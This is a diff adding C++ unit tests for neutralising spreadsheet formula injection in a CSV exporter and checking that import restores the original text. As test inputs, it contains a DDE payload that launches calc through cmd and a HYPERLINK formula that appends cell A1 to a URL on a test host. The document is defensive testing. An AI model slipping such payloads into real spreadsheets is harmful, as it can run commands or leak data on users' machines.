@@ -174,6 +174,38 @@ TEST(CsvWrite, AFirstRecordThatLooksLikeTheSeparatorHintReadsBackAsData) {
   }
 }
 
+TEST(CsvWrite, CellsASpreadsheetWouldEvaluateGetAQuoteThatReadingTakesOff) {
+  struct Case {
+    const char* cell;
+    const char* written;
+  };
+  const Case cases[] = {
+      {"=HYPERLINK(\"http://x.test\",\"y\")", "'=HYPERLINK(\"http://x.test\",\"y\")"},
+      {"+1+2", "'+1+2"},
+      {"-2+3", "'-2+3"},
+      {"-", "'-"},
+      {"@SUM(A1)", "'@SUM(A1)"},
+      {"\t=1", "'\t=1"},
+      {"\r=1", "'\r=1"},
+      {"\n=1", "'\n=1"},
+      // Quotes before a formula get one more, so the cell reads back with all of its own.
+      {"'=1", "''=1"},
+      {"''@x", "'''@x"},
+      // What no spreadsheet evaluates stays as it is: a user's own quote too.
+      {"'abc", "'abc"},
+      {"'", "'"},
+      {"''", "''"},
+      {"", ""},
+      {"A-1", "A-1"},
+      {"2006-11-30", "2006-11-30"},
+      {" =1", " =1"},
+  };
+  for (const Case& c : cases) {
+    EXPECT_EQ(MakeCellInert(c.cell), c.written) << c.cell;
+    EXPECT_EQ(RestoreInertCell(c.written), c.cell) << c.written;
+  }
+}
+
 // --- Export -------------------------------------------------------------------------------
 
 CEntry NumberedEntry(const std::string& reference, const std::string& number) {
@@ -514,6 +546,33 @@ TEST(CsvImport, LibreOffice) {
 }
 
 // --- Round trip ---------------------------------------------------------------------------
+
+TEST(CsvRoundTrip, PageTextThatLooksLikeAFormulaIsWrittenInertAndReadBackAsItWas) {
+  CEntryList list;
+  CEntry entry = NumberedEntry("'own quote", "10/123,456");
+  entry.Text(kStatus) = "=HYPERLINK(\"http://x.test/?\"&A1,\"Open\")";
+  entry.Text(kExaminer) = "@SUM(A1:A9)";
+  entry.Text(kLastHistoryText) = "-1+cmd|' /C calc'!A0";
+  entry.Text(kLocation) = "'+already quoted";
+  list.Insert(entry);
+  const std::string exported = FormatListCsv(list);
+  const CsvTable table = ReadCsv(exported);
+  ASSERT_EQ(table.records.size(), 2u);
+  const std::vector<std::string>& fields = table.records[1].fields;
+  EXPECT_EQ(fields[kReference], "'own quote");
+  for (int id : {kStatus, kExaminer, kLastHistoryText, kLocation}) {
+    EXPECT_EQ(fields[id], "'" + entry.Text(id)) << kFields[id].key;
+  }
+
+  const CsvImportPreview preview = PreviewCsvImport(exported, CEntryList());
+  ASSERT_EQ(preview.additions.size(), 1u);
+  for (int id : {kReference, kStatus, kExaminer, kLastHistoryText, kLocation}) {
+    EXPECT_EQ(preview.additions[0].entry.Text(id), entry.Text(id)) << kFields[id].key;
+  }
+  CEntryList again;
+  again.Insert(preview.additions[0].entry);
+  EXPECT_EQ(FormatListCsv(again), exported);
+}
 
 TEST(CsvRoundTrip, ExportImportIntoAFreshListExportAgainIsByteIdentical) {
   const CEntryList list = SampleList();
